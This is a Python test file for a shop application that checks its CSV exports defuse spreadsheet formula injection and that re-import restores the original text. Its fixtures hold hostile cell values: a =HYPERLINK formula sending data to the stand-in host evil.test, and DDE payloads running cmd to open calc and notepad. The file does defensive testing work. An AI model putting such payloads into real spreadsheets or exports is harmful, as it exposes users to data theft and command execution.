"""CSV formula injection: text from customers, staff or an imported file must open in the
owner's spreadsheet as text, never run as a formula (`=HYPERLINK(...)` sending data away).
Every CSV the shop writes (the catalogue export of the CLI, the admin's CSV export) puts
an apostrophe before text starting with =, +, -, @, a tab or a carriage return."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path
from typing import TYPE_CHECKING

import httpx
import pytest
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncEngine, AsyncSession

from app.db.models import Drop, Item
from app.db.session import SessionFactory, transaction
from app.services.shop.catalog_io import (
    FORMULA_PREFIXES,
    defuse_formula,
    export_catalog,
    import_catalog,
    restore_formula_text,
)
from tests.cli.test_catalog_cli import cli
from tests.hostile.test_admin_hardening import fill_text_columns, model_views, seed_every_model
from tests.web.conftest import (  # noqa: F401  (fixtures, used by name)
    signed_in,
    staff,
    web,
)

if TYPE_CHECKING:
    from tests.conftest import TestServices

HYPERLINK = '=HYPERLINK("https://evil.test/?d="&A2,"Levi\'s 501")'
# The text columns of a hostile item (notes is the item's description).
HOSTILE = {
    "title": HYPERLINK,
    "brand": "@SUM(1+1)*cmd|' /C calc'!A0",
    "color": "+1+1",
    "tag_size": "\t=1+1",
    "notes": "-2+3 =cmd|' /C notepad'!'A1'",
}
DROP = "=2+5"


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def armed(cell: str) -> bool:
    return cell.startswith(FORMULA_PREFIXES)


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_a_formula_gets_an_apostrophe(prefix: str) -> None:
    assert defuse_formula(f"{prefix}1+1") == f"'{prefix}1+1"


@pytest.mark.parametrize(
    "text",
    ["", "Levi's 501", "Tee = comfy", " =1+1", "'90s tee", "21.5", "PT-0001", "https://x.test/a"],
)
def test_other_text_is_written_as_it_is(text: str) -> None:
    assert defuse_formula(text) == text


async def add_hostile_item(session: AsyncSession) -> Item:
    drop = Drop(name=DROP)
    session.add(drop)
    await session.flush()
    item = Item(
        sku="PT-0666",
        category="tops",
        gender="unisex",
        condition="good",
        pit_to_pit_in=Decimal("21.5"),
        price=Decimal("40.00"),
        currency="USD",
        status="available",
        drop_id=drop.id,
        videos=[],
        images=[],
        **HOSTILE,
    )
    session.add(item)
    await session.flush()
    return item


def assert_defused_catalogue(text: str, *, trimmed: bool = False) -> None:
    [row] = rows_of(text)
    for column, value in HOSTILE.items():
        assert row[column] == f"'{value.strip() if trimmed else value}", column
    assert row["drop"] == f"'{DROP}"
    # Numbers and plain text are untouched.
    assert (row["sku"], row["price"], row["pit_to_pit_in"]) == ("PT-0666", "40.00", "21.5")
    assert (row["category"], row["currency"]) == ("tops", "USD")
    assert not any(armed(cell) for cell in row.values())


async def test_the_catalogue_export_defuses_text_cells(session_factory: SessionFactory) -> None:
    async with transaction(session_factory) as session:
        await add_hostile_item(session)
        assert_defused_catalogue(await export_catalog(session))


async def test_the_cli_export_defuses_text_cells(
    services: TestServices, committed_db: AsyncEngine, tmp_path: Path
) -> None:
    async with AsyncSession(committed_db) as session, session.begin():
        await add_hostile_item(session)
    exported = tmp_path / "export.csv"
    result = cli(services, "catalog", "export", "-o", str(exported))
    assert result.returncode == 0, result.stderr
    assert_defused_catalogue(exported.read_text(encoding="utf-8"))


@pytest.mark.parametrize("text", ["=1+1", "'=1+1", "''@x", "'90s tee", "-", "'", "plain"])
def test_import_undoes_what_export_did(text: str) -> None:
    assert restore_formula_text(defuse_formula(text)) == text


async def test_a_reimported_export_is_the_same_item_and_the_same_file(
    session_factory: SessionFactory,
) -> None:
    """The importer takes the exporter's apostrophe off (restore_formula_text): the
    re-imported item reads as before (bar the tab before the tag size: the importer trims
    every cell), and from then on the file is a fixed point."""
    async with transaction(session_factory) as session:
        await add_hostile_item(session)
        first = await export_catalog(session)
    async with transaction(session_factory) as session:
        await import_catalog(session, first)
        item = await session.scalar(select(Item).where(Item.sku == "PT-0666"))
        assert item is not None
        assert item.title == HYPERLINK and item.brand == HOSTILE["brand"]
        assert (item.color, item.notes) == (HOSTILE["color"], HOSTILE["notes"])
        assert item.tag_size == HOSTILE["tag_size"].strip()
        again = await export_catalog(session)
    assert_defused_catalogue(again, trimmed=True)
    async with transaction(session_factory) as session:
        unchanged = await import_catalog(session, again)
        assert (unchanged.created, unchanged.updated, unchanged.unchanged) == (0, 0, 1)
        assert await export_catalog(session) == again


async def test_the_admin_csv_export_defuses_text_cells(
    signed_in: httpx.AsyncClient,  # noqa: F811
    committed_db: AsyncEngine,
    services: TestServices,
) -> None:
    async with AsyncSession(committed_db) as session, session.begin():
        await add_hostile_item(session)
    response = await signed_in.get("/admin/item/export/csv")
    assert response.status_code == 200, response.text[:500]
    assert response.headers["content-type"].startswith("text/csv")
    [row] = rows_of(response.text)
    assert row["title"] == f"'{HYPERLINK}"
    assert row["brand"] == f"'{HOSTILE['brand']}"
    # Numbers as sqladmin writes them (the database's scale), untouched.
    assert (row["sku"], row["price"], row["pit_to_pit_in"]) == ("PT-0666", "40.00", "21.50")


async def test_no_admin_csv_export_has_an_armed_cell(
    signed_in: httpx.AsyncClient,  # noqa: F811
    committed_db: AsyncEngine,
    services: TestServices,
) -> None:
    await seed_every_model(committed_db)
    views = model_views(services)
    for view in views:
        await fill_text_columns(committed_db, view.model, HYPERLINK)
    exported = 0
    for view in views:
        response = await signed_in.get(f"/admin/{view.identity}/export/csv")
        assert response.status_code == 200, (view.identity, response.status_code)
        rows = rows_of(response.text)
        assert rows, view.identity
        for row in rows:
            for column, cell in row.items():
                assert not armed(cell), (view.identity, column, cell)
                exported += cell == f"'{HYPERLINK}"
    assert exported >= 10  # the hostile text really went out, defused
